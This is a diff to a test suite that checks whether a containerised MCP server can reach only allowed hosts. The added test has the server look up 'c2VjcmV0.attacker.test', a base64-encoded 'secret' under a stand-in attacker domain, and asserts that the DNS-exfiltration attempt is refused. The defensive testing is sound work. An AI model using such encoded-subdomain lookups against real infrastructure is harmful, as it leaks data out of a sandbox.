@@ -1,4 +1,5 @@
-import { createContainers, type AllowedHost, type McpContainers } from '#mcp';
+import { deferred } from '#core';
+import { createContainers, type AllowedHost, type McpContainers, type NameLookup } from '#mcp';
 import { testCertificate } from '#testing';
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { dockerMissing, nodeImage } from './docker-engine.ts';
@@ -36,6 +37,7 @@ async function startUpstream(name: string): Promise<string> {
 describe.skipIf(missing !== undefined)('a server that may only reach some hosts', () => {
   const upstreams = ['one', 'two'].map((name) => `gantry-test-upstream-${name}-${process.pid}`);
   const refusals: string[] = [];
+  const attackerLookup = deferred<NameLookup>();
   let containers: McpContainers;
   let image: string;
   let one: string;
@@ -61,6 +63,9 @@ describe.skipIf(missing !== undefined)('a server that may only reach some hosts'
       log: {
         ...testLog,
         warn: (message, fields) => void refusals.push(`${message} ${JSON.stringify(fields)}`),
+      },
+      onLookup(lookup) {
+        if (lookup.name.endsWith('.attacker.test')) attackerLookup.resolve(lookup);
       },
       limits: { endMs: 300, termMs: 300, lingerMs: 60_000 },
     });
@@ -159,6 +164,11 @@ describe.skipIf(missing !== undefined)('a server that may only reach some hosts'
     it('names of its own making: what it asks for is asked of nobody', async () => {
       expect(await talk.call('lookup', { host: 'c2VjcmV0.attacker.test' })).toBe('ENOTFOUND');
       expect(await talk.call('resolve', { host: 'c2VjcmV0.attacker.test' })).toBe('ENOTFOUND');
+      expect(await attackerLookup.promise).toEqual({
+        server: 'script',
+        name: 'c2vjcmv0.attacker.test',
+        isAllowed: false,
+      });
       expect(await talk.call('udp', { host: one, port: 53 })).toMatch(/^(ENETUNREACH|EHOSTUNREACH|TIMEOUT)$/);
     });
   });
